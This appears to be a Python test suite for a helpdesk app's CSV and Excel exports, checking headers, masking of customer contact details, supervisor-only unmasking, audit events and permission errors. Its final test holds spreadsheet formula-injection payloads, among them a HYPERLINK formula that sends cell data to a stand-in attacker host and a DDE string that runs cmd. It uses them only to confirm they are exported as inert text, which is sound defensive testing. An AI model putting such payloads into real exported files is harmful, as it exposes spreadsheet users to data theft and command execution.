"""Exports: CSV and Excel of a report and of a ticket list with chosen columns, streamed, contact
details masked unless asked for and allowed, each one audited as `export.created`."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

from gongdan.models import TicketEvent

PHONE, EMAIL = "13812345678", "zhao.lei@example.com"


def _customer_ticket(new_ticket: Any) -> Any:
    return new_ticket(
        "退款 13812345678",
        channel="web",
        customer={"name": "赵磊", "phone": PHONE, "email": EMAIL, "tier": "vip"},
    )


def test_report_as_csv_in_chinese(analytics: Any, make_user: Any, new_ticket: Any, counted: Any) -> None:
    supervisor = make_user("supervisor")[1]
    new_ticket("一", channel="web")
    new_ticket("二", channel="email")
    counted()
    answer = supervisor.get("/api/v1/reports/summary/export?from=2026-11-02&to=2026-11-02&format=csv&lang=zh")
    assert answer.status_code == 200
    assert answer.is_streamed
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="summary-2026-11-02.csv"')
    text = answer.get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["分组", "取值", "新建工单"]
    assert sorted((r[1], r[2]) for r in rows[1:]) == [("email", "1"), ("web", "1")]
    event = TicketEvent.get(TicketEvent.kind == "export.created")
    assert event.data["what"] == "report:summary"
    assert event.data["format"] == "csv"


def test_ticket_list_masked_by_default_and_audited(analytics: Any, make_user: Any, new_ticket: Any) -> None:
    supervisor = make_user("supervisor")[1]
    _customer_ticket(new_ticket)
    columns = "number,subject,customer_name,customer_phone,customer_email,customer_tier,created_at"
    answer = supervisor.get(f"/api/v1/reports/tickets/export?format=csv&lang=en&columns={columns}")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))
    assert rows[0] == ["Number", "Subject", "Customer", "Customer phone", "Customer e-mail", "Customer tier", "Created"]
    assert rows[1][1:6] == [
        "退款 138****5678",
        "赵磊",
        "138****5678",
        "z***@example.com",
        "VIP",
    ]  # the tier in words, not its code
    assert rows[1][6] == "2026-11-02 10:00:00"  # the tenant's time zone
    clear = supervisor.get(f"/api/v1/reports/tickets/export?format=csv&columns={columns}&unmasked=true")
    assert PHONE in clear.get_data().decode("utf-8-sig")
    audits = [e.data for e in TicketEvent.select().where(TicketEvent.kind == "export.created").order_by(TicketEvent.id)]
    assert [(a["what"], a["masked"], a["columns"][3]) for a in audits] == [
        ("tickets", True, "customer_phone"),
        ("tickets", False, "customer_phone"),
    ]


def test_ticket_list_as_excel_and_bad_input(analytics: Any, make_user: Any, new_ticket: Any) -> None:
    supervisor, agent = make_user("supervisor")[1], make_user("agent")[1]
    _customer_ticket(new_ticket)
    answer = supervisor.get("/api/v1/reports/tickets/export?format=xlsx&columns=number,customer_phone")
    assert answer.status_code == 200
    assert answer.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = zipfile.ZipFile(io.BytesIO(answer.get_data()))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "138****5678" in sheet
    assert PHONE not in sheet
    unknown = supervisor.get("/api/v1/reports/tickets/export?columns=number,password")
    assert unknown.status_code == 422
    assert "columns" in unknown.json["error"]["fields"]
    assert supervisor.get("/api/v1/reports/tickets/export?format=pdf").status_code == 422
    assert agent.get("/api/v1/reports/tickets/export").status_code == 403


def test_a_manager_exports_last_week_by_agent_to_excel_in_chinese(
    analytics: Any, tenant: Any, console_client: Any, new_ticket: Any, at: Any, counted: Any
) -> None:
    """The console's 上周 (last week) by agent as Excel, read back with openpyxl (another library than
    the writer): Chinese headers, agents by name, words not codes; the ticket list masked unless asked."""
    import re
    from html import unescape

    import openpyxl

    from gongdan import accounts, tickets
    from gongdan.actors import Actor

    agent = accounts.create_user(tenant, "li@acme.example.com", "agent", "李娜", "pw-123456789")
    at(2026, 11, 1, 23, 30)  # Sunday: last week (Monday 26 October to Sunday 1 November)
    first = _customer_ticket(new_ticket)
    tickets.assign(tenant, first, agent.id, Actor.of(agent))
    new_ticket("没人接", channel="email", priority="urgent")
    at(2026, 11, 2, 9, 0)  # Monday: this week, not in the export
    new_ticket("今天的", channel="web")
    counted()
    manager = console_client("supervisor", language="zh_CN")
    page = manager.text("/console/analytics/reports/?group_by=agent")
    preset = re.search(r'href="([^"]+)">上周</a>', page)
    assert preset is not None
    query = unescape(preset.group(1)).split("?", 1)[1]
    assert "from=2026-10-26" in query
    assert "to=2026-11-01" in query
    answer = manager.get(f"/console/analytics/reports/export?report=summary&format=xlsx&{query}")
    assert answer.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(answer.get_data()), read_only=True).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][:3] == ["分组", "取值", "新建工单"]
    assert {(row[0], row[2]) for row in rows[1:]} == {("李娜", 1), ("（无）", 1)}

    columns = "".join(f"&column={c}" for c in ("number", "status", "priority", "channel", "customer_phone", "assignee"))
    listed = manager.get(f"/console/analytics/reports/export?report=tickets&format=xlsx&{query}{columns}")
    sheet = openpyxl.load_workbook(io.BytesIO(listed.get_data()), read_only=True).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == ["编号", "状态", "优先级", "渠道", "客户电话", "处理人"]
    assert [row[1:] for row in rows[1:]] == [
        ["新建", "普通", "网页", "138****5678", "李娜"],
        ["新建", "紧急", "邮箱", None, None],
    ]
    clear = manager.get(f"/console/analytics/reports/export?report=tickets&format=xlsx&unmasked=1&{query}{columns}")
    sheet = openpyxl.load_workbook(io.BytesIO(clear.get_data()), read_only=True).active
    assert PHONE in [row[4] for row in sheet.iter_rows(values_only=True)]  # a supervisor may reveal; audited
    audits = TicketEvent.select().where(TicketEvent.kind == "export.created").order_by(TicketEvent.id)
    assert [(e.data["what"], e.data.get("masked")) for e in audits] == [
        ("report:summary", None),
        ("tickets", True),
        ("tickets", False),
    ]
    assert console_client("agent", language="zh_CN").get(f"/console/analytics/reports/export?{query}").status_code in (
        302,
        403,
    )


def test_text_a_spreadsheet_would_run_is_exported_as_text(analytics: Any, make_user: Any, new_ticket: Any) -> None:
    supervisor = make_user("supervisor")[1]
    attacks = ['=HYPERLINK("http://evil.example/?"&A1,"退款")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    for subject in attacks:
        new_ticket(subject, channel="web", customer={"name": "\t=1+1", "phone": "13800000000"})
    answer = supervisor.get("/api/v1/reports/tickets/export?format=csv&columns=number,subject,customer_name")
    rows = list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))[1:]
    assert sorted(r[1] for r in rows) == sorted("'" + s for s in attacks)
    assert {r[2] for r in rows} == {"'\t=1+1"}
    assert all(r[0].isdigit() for r in rows)  # numbers stay numbers
    excel = supervisor.get("/api/v1/reports/tickets/export?format=xlsx&columns=subject")
    sheet = zipfile.ZipFile(io.BytesIO(excel.get_data())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # Excel cells are written as strings, never formulas
